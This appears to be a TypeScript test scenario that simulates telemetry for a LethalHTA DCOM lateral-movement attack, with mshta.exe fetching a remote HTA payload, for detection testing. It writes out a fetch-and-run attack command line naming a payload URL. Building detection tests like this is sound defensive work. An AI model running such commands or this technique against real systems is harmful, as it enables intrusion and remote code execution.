import { callServer, launchServer, remoteStart } from "../actions.js";
import { ALICE_ADMIN, PATHS, SRV_APP02, WKS01 } from "../estate.js";
import type { Scenario } from "../scenario.js";

export const remoteLethalHta: Scenario = {
  name: "remote-lethalhta",
  description:
    "LethalHTA (htafile CLSID 3050F4D8) from WKS01 to SRV-APP02: mshta.exe -Embedding under DcomLaunch fetches the HTA from the source; its inbound connection is logged just before its process start",
  kind: "attack",
  variant: "LethalHTA",
  expect: { object: "LethalHTA", outcome: "activated", observed_on: "both", incidents: 1 },
  loopback: false,
  hosts: [WKS01, SRV_APP02],
  generate(ctx) {
    const { client, target, activation } = remoteStart(
      ctx,
      WKS01,
      SRV_APP02,
      ALICE_ADMIN,
      '"C:\\Tools\\LethalHTADotNet.exe" SRV-APP02 http://10.0.10.21:8000/payload.hta',
      "Kerberos",
      "C:\\Tools\\LethalHTADotNet.exe",
    );
    const mshta = launchServer(
      ctx,
      target,
      activation.logon,
      PATHS.mshta,
      "C:\\Windows\\System32\\mshta.exe -Embedding",
      640,
    );
    // The inbound record for mshta.exe carries a timestamp before its process start (see reference).
    callServer(ctx, client, mshta, 630);
    ctx.emu.connection(
      {
        proc: mshta,
        initiated: true,
        sourceIp: SRV_APP02.ip,
        sourcePort: 49152 + ctx.rng.int(0, 16000),
        sourceHostname: SRV_APP02.computer,
        destinationIp: WKS01.ip,
        destinationPort: 8000,
        destinationHostname: WKS01.computer,
      },
      ctx.at(1100),
    );
    return ctx.produced();
  },
};
